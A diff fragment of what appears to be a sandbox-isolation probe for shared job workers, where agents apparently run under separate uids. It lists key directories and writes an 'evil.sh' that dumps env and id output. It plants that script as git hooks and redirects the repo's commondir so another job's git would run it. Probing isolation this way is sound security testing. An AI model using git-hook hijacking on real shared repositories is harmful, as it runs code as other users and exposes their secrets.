@@ -57,14 +57,15 @@ for path in [home, home / "jobs", home / "celery", home / "keys", home / "cli.ke
         note(f"LIST {path} refused: {exc}")
 
 # 4. make the worker's git run our code: an evil program that records who ran it
-evil = drop / "evil.sh"
-if not evil.exists():
-    evil.write_text(
-        f'#!/bin/sh\nenv > "{drop}/evil-ran-$$.txt"; id >> "{drop}/evil-ran-$$.txt"\nexit 0\n'
-    )
-    evil.chmod(0o755)
-hooks = drop / "hooks"
-hooks.mkdir(exist_ok=True)
+own = drop / f"run-{tag}"  # each agent's own: another job's agent is another uid
+own.mkdir()
+evil = own / "evil.sh"
+evil.write_text(
+    f'#!/bin/sh\nenv > "{drop}/evil-ran-$$.txt"; id >> "{drop}/evil-ran-$$.txt"\nexit 0\n'
+)
+evil.chmod(0o755)
+hooks = own / "hooks"
+hooks.mkdir()
 for hook in (
     "pre-commit",
     "post-commit",
@@ -107,7 +108,7 @@ for target in (common / "config", common / "hooks" / "pre-push", gitdir / "confi
         note(f"WRITE {target} refused: {exc}")
 if replace_dotgit:
     try:
-        (gitdir / "commondir").write_text(str(drop / "fakerepo"))
+        (gitdir / "commondir").write_text(str(own / "fakerepo"))
         note("WROTE commondir")
     except OSError as exc:
         note(f"WRITE commondir refused: {exc}")
